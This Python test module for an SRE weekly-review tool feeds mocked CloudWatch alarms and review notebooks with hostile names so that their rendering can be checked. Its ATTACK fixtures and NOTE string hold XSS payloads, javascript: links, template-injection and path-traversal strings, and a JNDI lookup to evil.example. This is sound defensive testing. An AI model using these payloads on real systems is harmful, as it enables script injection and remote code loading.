"""A review in which every name from outside attacks, run once: what all pages of it are looked at for."""

import csv
import io
import json
from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import nbformat
import numpy as np
import pytest

from sre_lib import weeks
from sre_lib.demo.endpoint import serve
from sre_lib.demo.recorded import Recorded
from sre_lib.document.minutes.cells import name_of
from sre_lib.run.progress import silent
from sre_lib.run.weekly_run import prepare, weekly_run
from tests.collect.account import signed_in

WEEK = weeks.named("2026-W40", "UTC", history_weeks=2)
NOW = weeks.morning_after(WEEK)
NAME = "attacked"
SCRIPT = "</script><script>alert('s')</script>"
IMAGE = "<img src=https://evil.example/x onerror=alert('i')>"
LONG = "long " * 200_000


@dataclass(frozen=True)
class Names:
    """What a company calls its things: the same week has the same numbers under other names."""

    services: tuple[str, str, str]
    resources: tuple[str, str, str]
    part: str
    alarms: tuple[str, str]
    description: str
    events: tuple[str, str]
    owner: str
    title: str


ATTACK = Names(
    services=("../../x", f"{SCRIPT}", "{{7*7}}{% raw %} {not_there} %s"),
    resources=(f"i-{IMAGE}", "javascript:alert('r')", "i-{{7}}"),
    part="<svg onload=alert('p')> & \"quoted\" 'both'",
    alarms=(f"{IMAGE} cpu", "\u202edesrever \x07`code` [x](javascript:alert(1))"),
    description=f"{SCRIPT}\u0000 {LONG[:900]} ${{jndi:ldap://evil.example}} <style>body{{display:none}}</style>",
    events=(f"{SCRIPT} {IMAGE}", "</title><style>*{display:none}</style>"),
    owner="<a href=\"javascript:alert('o')\">owner</a>",
    title=f"{IMAGE} {{{{title}}}}",
)
TRICKY = Names(
    services=("cpu", "API", "pay"),
    resources=("i-決済基盤", "payments-KESSAI", "zq-pay-prod"),
    part="決済データベース",
    alarms=("Zanzibar latency", "pay/Zanzibar-p99"),
    description="Ask Tamachan on the Zanzibar team",
    events=("Zanzibar launch", "夏の大感謝祭"),
    owner="Tamachan",
    title="Zanzibar GmbH",
)
PLAIN = Names(
    services=("qqa", "qqb", "qqc"),
    resources=("i-qqd", "qqe", "qqf"),
    part="qqg",
    alarms=("qqh", "qqi"),
    description="qqj",
    events=("qqk", "qql"),
    owner="qqm",
    title="qqn",
)
NOTE = (
    f"**Verdict:** fix\n\n**Note:** Zanzibar {SCRIPT} {IMAGE} [a](javascript:alert('a')) [d](data:text/html,<script>) "
    "[ok](https://ok.example/) <svg onload=alert('v')></svg> {{7*7}} \u202ertl <style>*{display:none}</style> "
    f"<iframe src=https://evil.example/></iframe> {LONG}"
)


class _Account(Recorded):
    """Servers with alarms that are called as the names say."""

    def __init__(self, names: Names) -> None:
        super().__init__()
        self._names = names

    def alarms(self, at: float) -> Sequence[Mapping[str, Any]]:
        """Return the alarms: one fires, one never does."""
        del at
        return [self._alarm(name, number) for number, name in enumerate(self._names.alarms)]

    def alarm_history(self, start: float, end: float) -> Sequence[Mapping[str, Any]]:
        """Return the history: the first fires while its server is busy."""
        name = self._names.alarms[0]
        moments = ((BUSY.timestamp() + 600, "OK", "ALARM"), (BUSY.timestamp() + 7800, "ALARM", "OK"))
        return [
            {
                "AlarmName": name,
                "AlarmType": "MetricAlarm",
                "Timestamp": at,
                "HistoryItemType": "StateUpdate",
                "HistorySummary": f"Alarm updated from {old} to {new}",
                "HistoryData": json.dumps(
                    {"version": "1.0", "oldState": {"stateValue": old}, "newState": {"stateValue": new}}
                ),
            }
            for at, old, new in moments
            if start <= at <= end
        ]

    def _alarm(self, name: str, number: int) -> Mapping[str, Any]:
        return {
            "AlarmName": name,
            "AlarmArn": f"arn:aws:cloudwatch:us-east-1:123456789012:alarm:{name}",
            "AlarmDescription": self._names.description,
            "AlarmConfigurationUpdatedTimestamp": WEEK.history_start.timestamp(),
            "StateUpdatedTimestamp": WEEK.history_start.timestamp(),
            "ActionsEnabled": True,
            "AlarmActions": [f"arn:aws:sns:us-east-1:123456789012:{self._names.owner}"],
            "OKActions": [],
            "InsufficientDataActions": [],
            "StateValue": "OK",
            "MetricName": "CPUUtilization",
            "Namespace": "AWS/EC2",
            "Statistic": "Average",
            "Dimensions": [{"Name": "InstanceId", "Value": self._names.resources[number]}],
            "Period": 300,
            "EvaluationPeriods": 1,
            "DatapointsToAlarm": 1,
            "Threshold": 80.0 + 19.0 * number,
            "ComparisonOperator": "GreaterThanThreshold",
            "TreatMissingData": "missing",
        }


BUSY: datetime = WEEK.start + timedelta(days=2, hours=10)


def account(names: Names) -> Recorded:
    """Return three servers with a daily rhythm; the first is at its limit for two hours on Wednesday."""
    times = [WEEK.history_start + timedelta(minutes=5 * step) for step in range(21 * 288)]
    hours = np.arange(len(times)) / 12
    backend = _Account(names)
    for number, resource in enumerate(names.resources):
        values = 35 + 10 * np.sin(hours / 24 * 2 * np.pi) + np.random.default_rng(number).normal(0, 1, len(times))
        if number == 0:
            values[(14 + 2) * 288 + 120 :][:24] = 99.5
        backend.put("AWS/EC2", "CPUUtilization", {"InstanceId": resource}, times, values)
    return backend


def review(names: Names, source: Mapping[str, Any]) -> Mapping[str, Any]:
    """Return the content of the review file."""
    first, second, third = names.services
    own = [{"kind": "ec2_instance", "dimensions": {"InstanceId": each}} for each in names.resources]
    return {
        "title": names.title,
        "timezone": "UTC",
        "history_weeks": 2,
        "source": dict(source),
        "services": [
            {"name": first, "owner": names.owner, "runbook": "https://wiki.example/x", **own[0]},
            {"name": second, **own[1], "related": [{"name": names.part, **own[2]}]},
            {"name": third, **own[2]},
        ],
        "events": [
            {"start": BUSY.isoformat(), "kind": "push", "title": names.events[0], "audience": 5000, "services": [first]}
        ],
        "events_from": [{"file": "sent.csv", "timezone": "UTC", "kind": "sale"}],
    }


def reviewed(home: Path, names: Names) -> Path:
    """Review the week in a folder of its own; return the folder of its pages."""
    (home / "params").mkdir(parents=True)
    rows = io.StringIO()
    csv.writer(rows).writerows([["start", "title"], [(BUSY + timedelta(days=1)).isoformat(), names.events[1]]])
    (home / "sent.csv").write_text(rows.getvalue())
    with pytest.MonkeyPatch.context() as patch, serve(account(names), NOW) as url:
        signed_in(patch)
        patch.chdir(home)
        for source in ({"type": "cloudwatch", "region": "us-east-1", "endpoint": url}, {"type": "archive"}):
            (home / f"params/{NAME}.yaml").write_text(json.dumps(review(names, source)))

            weekly_run(prepare(NAME, WEEK.name, NOW, None, 2, ""), lambda _: None, silent)
    return home / "reviews" / NAME / WEEK.name


def write_note(folder: Path, text: str) -> None:
    """Write into the discussion of the first finding, as JupyterLab does."""
    file = folder / "weekly_review.ipynb"
    notebook = nbformat.read(file, as_version=4)
    next(each for each in notebook.cells if name_of(each).startswith("discussion:")).source = text
    nbformat.write(notebook, file)
